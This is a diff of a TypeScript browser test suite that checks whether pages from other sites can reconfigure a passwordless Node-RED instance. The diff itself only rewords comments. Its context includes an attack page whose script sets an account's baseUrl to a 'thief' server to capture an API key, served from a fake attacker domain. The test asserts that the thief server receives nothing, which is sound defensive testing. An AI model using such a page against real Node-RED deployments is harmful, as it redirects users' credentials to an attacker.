@@ -13,7 +13,7 @@ const GOOD = 'Connected as nora.feld@quillbrook.example, plan professional.';
 
 const portOf = (url: string): string => new URL(url).port;
 
-/** Everything that a page can try without asking Node-RED first, and what it can ask for. */
+/** Everything that a page can try without asking Node-RED first, and what it can request. */
 const attack = (target: string, thief: string): string => `<!doctype html><body><script>
 	const body = { id: 'account', apiKey: '__PWRD__', baseUrl: '${thief}', allowHttp: 'true' };
 	const picks = 'account=account&picks=conversation&filter=';
@@ -82,7 +82,7 @@ suite('Pages of other sites, and Node-RED without a password', { skip: noChromiu
 		world = await startNodeRedWorld();
 		service = await record();
 		await world.red().deploy([world.flow, { ...world.account, baseUrl: service.url }], 'full');
-		// Names outside this machine, for which browsers do not say what site a request is from.
+		// Names outside this machine, for which browsers do not report which site a request comes from.
 		const args = ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP *.test 127.0.0.1'];
 		browser = await chromium.launch({ executablePath: CHROMIUM, args });
 		page = await browser.newPage();
@@ -107,7 +107,7 @@ suite('Pages of other sites, and Node-RED without a password', { skip: noChromiu
 			const site = await start((_request, response) => void response.setHeader('Content-Type', 'text/html').end(attack(target, thief.url)));
 			await page.goto(`http://${attacker}:${portOf(site.url)}/`);
 			assert.equal(await page.evaluate('attacked'), true);
-			// What came last may still be under way.
+			// The last one may still be in progress.
 			await page.waitForTimeout(500);
 			assert.deepEqual(seen, []);
 		});
